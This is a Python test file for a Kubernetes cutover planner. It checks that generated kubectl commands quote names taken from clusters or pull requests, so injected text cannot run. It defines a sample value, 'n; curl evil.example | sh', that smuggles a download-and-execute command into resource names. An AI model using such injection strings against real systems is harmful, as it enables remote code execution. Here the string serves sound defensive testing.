"""Commands of a plan: they are copied into shells, and names come from a cluster or a pull request."""

from __future__ import annotations

import shlex

from dra_infra.cutover.steps import back_from_move, move
from dra_infra.kubernetes.api.metadata import ObjectRef

HOSTILE = "n; curl evil.example | sh"


def test_a_name_never_ends_a_command():
    moving = [(ObjectRef("Deployment", HOSTILE, HOSTILE), []), (ObjectRef("Job", HOSTILE, "ml"), [])]
    resources = [f"nvidia.com/'{HOSTILE}"]
    daemons = {ObjectRef("DaemonSet", HOSTILE, HOSTILE): f"{HOSTILE}={HOSTILE}"}
    given = [HOSTILE], resources, moving, daemons, {ObjectRef("Pod", HOSTILE, HOSTILE): True}
    steps = (*move(*given), *back_from_move(*given))
    commands = [each for step in steps for each in step.commands if "curl" in each]
    assert commands
    for command in commands:
        assert not {"|", "curl", "sh"} & set(shlex.split(command))


def test_plain_names_are_not_quoted():
    steps = move(
        ["gpu-0", "gpu-1"], ["nvidia.com/gpu"], [(ObjectRef("StatefulSet", "serve", "ml"), [])], {}, {}
    )
    commands = [each for step in steps for each in step.commands]
    assert "kubectl cordon gpu-0 gpu-1" in commands
    gone = r"--for='jsonpath={.status.allocatable.nvidia\.com/gpu}=0'"
    assert f"kubectl wait {gone} node/gpu-0 node/gpu-1 --timeout=10m" in commands
    assert "kubectl get resourceslices --field-selector spec.nodeName=gpu-0" in commands
    assert "kubectl rollout status statefulset/serve -n ml" in commands


def test_a_rollout_is_waited_for_when_its_nodes_are_back():
    back = back_from_move(
        ["gpu-0"], ["nvidia.com/gpu"], [(ObjectRef("Deployment", "serve", "ml"), [])], {}, {}
    )
    commands = [each for step in back for each in step.commands]
    assert commands[-2:] == ["kubectl uncordon gpu-0", "kubectl rollout status deployment/serve -n ml"]
    assert not any("rollout" in each for each in commands[:-1])
